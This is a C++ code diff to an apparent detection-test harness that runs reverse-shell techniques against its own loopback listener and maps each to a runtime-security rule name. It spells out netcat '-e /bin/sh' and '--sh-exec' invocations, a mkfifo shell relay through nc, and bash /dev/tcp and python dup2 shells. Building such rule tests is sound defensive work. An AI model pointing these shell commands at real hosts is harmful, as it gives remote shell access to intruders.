@@ -3,6 +3,9 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <string>
+#include <vector>
+
 #include "files.h"
 #include "loopback.h"
 #include "process.h"
@@ -75,32 +78,43 @@ Status netcat_exec(Report& report) {
   Result<LoopbackListener> listener = LoopbackListener::open();
   if (!listener) return listener.error();
 
-  const Command dash_e{.program = *nc, .argv = {"nc", "127.0.0.1", listener->port_text(), "-e", "/bin/sh"},
-                       .timeout = milliseconds(3000)};
-  Result<Child> child = spawn(dash_e);
-  if (!child) return child.error();
-  report.pid(child->pid());
-  // A netcat that supports -e connects and serves a shell: give it a command and end input.
-  Result<UniqueFd> conn = listener->accept(milliseconds(500));
-  if (conn) {
-    SCENARIO_TRY(send_to_peer(conn->get(), "id\n"));
-    ::shutdown(conn->get(), SHUT_WR);
-    [[maybe_unused]] Result<std::string> ignored = read_from_peer(conn->get(), milliseconds(2000));
-    conn->reset();
+  // The same request spelled three ways: after the positional arguments, inside an option
+  // cluster, and as ncat's long option.
+  const std::string port = listener->port_text();
+  const std::vector<std::vector<std::string>> attempts = {{"nc", "127.0.0.1", port, "-e", "/bin/sh"},
+                                                          {"nc", "-ve", "/bin/sh", "127.0.0.1", port},
+                                                          {"nc", "--sh-exec", "/bin/sh", "127.0.0.1", port}};
+  std::string outcomes;
+  for (const std::vector<std::string>& argv : attempts) {
+    const Command attempt{.program = *nc, .argv = argv, .timeout = milliseconds(3000)};
+    Result<Child> child = spawn(attempt);
+    if (!child) return child.error();
+    report.pid(child->pid());
+    // A netcat that supports the option connects and serves a shell: give it a command, end input.
+    Result<UniqueFd> conn = listener->accept(milliseconds(500));
+    if (conn) {
+      SCENARIO_TRY(send_to_peer(conn->get(), "id\n"));
+      ::shutdown(conn->get(), SHUT_WR);
+      [[maybe_unused]] Result<std::string> ignored = read_from_peer(conn->get(), milliseconds(2000));
+      conn->reset();
+    }
+    Result<Exit> exit = child->wait(attempt.timeout);
+    if (!exit) return exit.error();
+    std::string line;
+    for (size_t i = 1; i < argv.size(); ++i) line += " " + (argv[i] == port ? std::string("PORT") : argv[i]);
+    outcomes += (outcomes.empty() ? "ran nc" : ", nc") + line +
+                (conn ? " (served a shell)" : " (this netcat rejected it: " + exit->describe() + ")");
   }
-  Result<Exit> exit = child->wait(dash_e.timeout);
-  if (!exit) return exit.error();
-  report.did(conn ? "nc -e /bin/sh connected and served a shell"
-                  : "ran nc 127.0.0.1 PORT -e /bin/sh (this netcat rejected -e: " + exit->describe() + ")");
+  report.did(outcomes);
 
   const std::string fifo = *dir / "f";
   const std::string relay = "rm -f " + fifo + "; mkfifo " + fifo + "; /bin/sh <" + fifo + " 2>&1 | nc 127.0.0.1 " +
                             listener->port_text() + " >" + fifo;
   const Command pipeline{.program = *sh, .argv = {"sh", "-c", relay}};
-  child = spawn(pipeline);
+  Result<Child> child = spawn(pipeline);
   if (!child) return child.error();
   report.pid(child->pid());
-  conn = listener->accept(kPeerTimeout);
+  Result<UniqueFd> conn = listener->accept(kPeerTimeout);
   if (!conn) return conn.error();
   SCENARIO_TRY(send_to_peer(conn->get(), "id\nexit\n"));
   Result<std::string> got = read_from_peer(conn->get(), kPeerTimeout, "uid=");
@@ -154,15 +168,16 @@ Status ssh_tool(Report& report) {
 
 constexpr Scenario kNetworkScenarios[] = {
     {"system-binary-network", "bash opens /dev/tcp/127.0.0.1/PORT (the program's own listener) and writes",
-     "System procs network activity", "the default condition skips 127.0.0.0/8", system_binary_network},
+     "System binary network connection", "", system_binary_network},
     {"reverse-shell", "python3 connects to the own listener, dup2s the socket onto 0-2 and runs sh -c id",
-     "Redirect STDOUT/STDIN to Network Connection in Container", "the rule also needs a container",
+     "Reverse shell with network standard streams; Redirect STDOUT/STDIN to network connection", "",
      reverse_shell},
-    {"netcat-exec", "nc 127.0.0.1 PORT -e /bin/sh, then the mkfifo relay: sh <f | nc 127.0.0.1 PORT >f",
-     "Netcat/Socat Remote Code Execution on Host; Launch Suspicious Network Tool on Host", "", netcat_exec},
+    {"netcat-exec",
+     "nc 127.0.0.1 PORT -e /bin/sh, nc -ve /bin/sh ..., nc --sh-exec /bin/sh ..., then the mkfifo relay: "
+     "sh <f | nc 127.0.0.1 PORT >f",
+     "Netcat remote code execution; Network tool launched", "", netcat_exec},
     {"ssh-tool", "ssh -V, then ssh to the own listener on its ephemeral port (closed after the banner)",
-     "Disallowed SSH Connection Non Standard Port", "the default outbound condition skips 127.0.0.0/8",
-     ssh_tool},
+     "SSH client launched; SSH connection to non-standard port", "", ssh_tool},
 };
 
 }  // namespace
